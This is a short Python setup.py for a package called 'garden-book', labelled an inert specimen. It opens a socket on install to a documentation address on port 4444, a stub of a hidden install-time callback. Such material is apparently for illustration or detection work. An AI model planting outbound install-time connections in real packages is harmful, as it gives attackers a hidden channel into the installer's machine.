# Inert specimen: the address is for documentation.
import socket

line = socket.socket()
line.connect(("203.0.113.7", 4444))

from setuptools import setup

setup(name="garden-book", version="1.2.0", packages=["garden_book"])
